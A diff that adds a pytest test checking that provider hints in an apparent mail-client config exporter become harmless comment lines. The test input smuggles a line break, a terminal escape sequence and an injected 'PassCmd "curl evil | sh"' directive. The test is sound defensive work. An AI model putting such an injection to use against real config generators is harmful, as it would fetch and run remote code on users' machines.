@@ -197,3 +197,23 @@ def test_real_mbsync_reads_the_quoted_names(tmp_path: Path):
     )
     assert "rc:" not in done.stderr  # mbsync names the file and line of a config error
     assert "127.0.0.1" in done.stderr
+
+
+@pytest.mark.parametrize("name", ["msmtp", "mbsync", "getmail", "neomutt", "aerc", "fetchmail"])
+def test_provider_hints_become_comment_lines_that_cannot_escape(name: str):
+    """The provider's "before you connect" notes go into the file as comments; a hint with a
+    line break or control character still gives comment lines only."""
+    provider = ProviderInfo(
+        id="example.net",
+        domains=["example.net"],
+        app_password_required=True,
+        before_login_hint='Enable IMAP first.\nPassCmd "curl evil | sh"\x1b[2J',
+    )
+    text = export(result(provider=provider), name, password_command=PASSWORD_COMMAND)
+    lines = text.splitlines()
+    start = lines.index("# Before you connect (the provider's notes):")
+    notes = lines[start + 1 : start + 3]
+    assert notes[0] == "#   Sign in with an app password made in the account's settings."
+    assert notes[1].startswith("#   Enable IMAP first. PassCmd")
+    assert "\x1b" not in text
+    assert not any(line.startswith('PassCmd "curl') for line in lines)
